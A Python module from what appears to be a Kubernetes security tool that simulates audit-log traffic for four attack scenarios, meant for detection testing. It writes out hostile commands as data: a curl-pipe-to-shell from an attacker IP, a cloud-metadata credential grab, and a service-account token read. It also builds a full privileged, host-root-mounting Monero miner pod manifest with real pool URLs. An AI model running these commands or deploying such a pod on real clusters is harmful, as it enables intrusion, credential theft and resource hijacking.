"""The mission's attacks, as the audit log records them: (a) anonymous access granted by a bad binding,
(b) exec into a pod, (c) a stolen token sweeping secrets, (d) a privileged crypto-miner pod."""

from __future__ import annotations

from urllib.parse import quote

from kubesigma.connectors.simulated_cluster.audit import api_path, object_ref
from kubesigma.connectors.simulated_cluster.identities import PUBLIC_INFO_VIEWER, anonymous, rbac_reason
from kubesigma.connectors.simulated_cluster.manifests import created
from kubesigma.connectors.simulated_cluster.traffic import Episode, Traffic

# Attackers come from documentation ranges (RFC 5737): obviously not a real party.
ATTACKER_IPS = ("203.0.113.66", "198.51.100.23", "203.0.113.140")
MINER_POOLS = (
    "stratum+tcp://xmr.pool.minergate.com:45700",
    "stratum+tcp://pool.supportxmr.com:3333",
    "stratum+tcp://xmr-eu1.nanopool.org:14444",
)
MINER_IMAGES = ("docker.io/teamtnt/xmrig:latest", "xmrig/xmrig:6.21.0", "docker.io/lowtek99/xmrig:v6")

# Secrets an enumerating identity walks through (namespace, name).
SECRETS = (
    ("shop", "web-db-credentials"),
    ("shop", "cart-redis"),
    ("shop", "registry-pull"),
    ("payments", "stripe-api-key"),
    ("payments", "api-tls"),
    ("payments", "postgres-admin"),
    ("monitoring", "grafana-admin"),
    ("monitoring", "alertmanager-slack-webhook"),
    ("kube-system", "bootstrap-token-abcdef"),
    ("kube-system", "cilium-ca"),
    ("kube-system", "coredns-token"),
    ("ingress-nginx", "ingress-nginx-admission"),
    ("cert-manager", "cert-manager-webhook-ca"),
    ("default", "ci-deployer-kubeconfig"),
    ("ci", "deployer-token"),
    ("argocd", "argocd-initial-admin-secret"),
)


class Attacks(Traffic):
    """The four attack scenarios; the timeline plays each once and repeats them at random."""

    SCENES = ("anonymous_allowed", "exec_into_pod", "secret_sweep", "miner_pod")

    def anonymous_allowed(self, t: float, ip: str | None = None) -> Episode:
        """(a) A scanner finds the API answers anonymously: version, discovery, then pods and secrets.

        An over-permissive ClusterRoleBinding (to cluster-admin) lets system:anonymous do all of it.
        """
        ip = ip or self.rng.choice(ATTACKER_IPS)
        agent = self.rng.choice(("curl/7.88.1", "python-requests/2.31.0"))
        public = anonymous(ip, agent, PUBLIC_INFO_VIEWER)
        who = anonymous(
            ip,
            agent,
            rbac_reason("ClusterRoleBinding", "anonymous-view", "cluster-admin", "User", "system:anonymous"),
        )
        out = self.audit.request(t, public, "get", "/version", None)
        t += self.rng.uniform(0.5, 2)
        out += self.audit.request(t, who, "get", "/api", None)
        t += self.rng.uniform(0.1, 0.5)
        out += self.audit.request(t, who, "get", "/apis", None)
        t += self.rng.uniform(1, 4)
        out += self.audit.request(t, who, "list", "/api/v1/pods", object_ref("pods"), latency=0.08)
        ns = self.rng.choice(("kube-system", "default", "payments"))
        out += self.audit.request(
            t + self.rng.uniform(2, 6),
            who,
            "list",
            f"/api/v1/namespaces/{ns}/secrets",
            object_ref("secrets", ns),
        )
        return out

    def exec_into_pod(self, t: float) -> Episode:
        """(b) Someone execs a shell into a running pod and reaches for the cloud metadata service."""
        ns, pod, app, _node = self.rng.choice(self.cluster.pods)
        who = self.cluster.person(self.rng.choice((1, 2)))
        cmd = self.rng.choice(
            (
                "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
                "curl -sL http://203.0.113.66/x.sh | sh",
                "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
            )
        )
        params = "&".join(f"command={quote(p, safe='')}" for p in ("sh", "-c", cmd))
        uri = api_path("pods", ns, pod) + f"/exec?{params}&container={app}&stdin=true&stdout=true&tty=true"
        ref = object_ref("pods", ns, pod, subresource="exec")
        return self.audit.request(
            t, who, "create", uri, ref, code=101, latency=self.rng.uniform(20, 180), started=True
        )

    def secret_sweep(self, t: float) -> Episode:
        """(c) A stolen service-account token lists every secret in the cluster, then reads them one by one."""
        ns, pod, app, _node = self.rng.choice(self.cluster.pods)
        # The token still names the pod it was stolen from; the source IP is not the pod's.
        who = self.cluster.service_account(
            ns,
            app,
            self.rng.choice(ATTACKER_IPS),
            "python-requests/2.31.0",
            rbac_reason(
                "ClusterRoleBinding", f"{app}-debug", "cluster-admin", "ServiceAccount", f"{ns}/{app}"
            ),
            pod=pod,
        )
        out = self.audit.request(
            t, who, "list", "/api/v1/secrets?limit=500", object_ref("secrets"), latency=0.12
        )
        picks = self.rng.sample(SECRETS, self.rng.randrange(11, len(SECRETS) + 1))
        when = t + self.rng.uniform(3, 10)
        for sns, name in picks:
            out += self.audit.request(
                when, who, "get", api_path("secrets", sns, name), object_ref("secrets", sns, name)
            )
            when += self.rng.uniform(0.3, 2.5)
        return out

    def miner_pod(self, t: float, ip: str | None = None) -> Episode:
        """(d) TeamTNT-style: a privileged pod with the node's `/` mounted, running a Monero miner.

        Created with the default service account's long-lived token (no pod binding), found meanwhile.
        """
        who = self.cluster.service_account(
            "default",
            "default",
            ip or self.rng.choice(ATTACKER_IPS),
            "kubectl/v1.27.1 (linux/amd64) kubernetes/4c94112",
            rbac_reason(
                "ClusterRoleBinding", "default-admin", "cluster-admin", "ServiceAccount", "default/default"
            ),
        )
        ns = self.rng.choice(("default", "kube-system"))
        name = (
            self.rng.choice(("kube-cache", "system-updater", "monitoring-agent"))
            + "-"
            + self.cluster.suffix(5)
        )
        image = self.rng.choice(MINER_IMAGES)
        pool = self.rng.choice(MINER_POOLS)
        wallet = "4" + "".join(
            self.rng.choice("123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz") for _ in range(94)
        )
        pod = {
            "kind": "Pod",
            "apiVersion": "v1",
            "metadata": {"name": name, "namespace": ns, "labels": {"app": name.rsplit("-", 1)[0]}},
            "spec": {
                "hostPID": True,
                "hostNetwork": True,
                "containers": [
                    {
                        "name": "main",
                        "image": image,
                        "command": ["/xmrig/xmrig"],
                        "args": [
                            "-o",
                            pool,
                            "-u",
                            wallet,
                            "-p",
                            "x",
                            "--donate-level=1",
                            "--cpu-max-threads-hint=100",
                        ],
                        "securityContext": {"privileged": True},
                        "volumeMounts": [{"name": "host-root", "mountPath": "/host"}],
                    }
                ],
                "volumes": [{"name": "host-root", "hostPath": {"path": "/", "type": "Directory"}}],
                "tolerations": [{"operator": "Exists"}],
            },
            "status": {},
        }
        return self.audit.request(
            t,
            who,
            "create",
            api_path("pods", ns),
            object_ref("pods", ns, name),
            code=201,
            level="RequestResponse",
            request_object=pod,
            response_object=created(self.cluster, pod, t, name),
            annotations={"pod-security.kubernetes.io/enforce-policy": "privileged:latest"},
        )
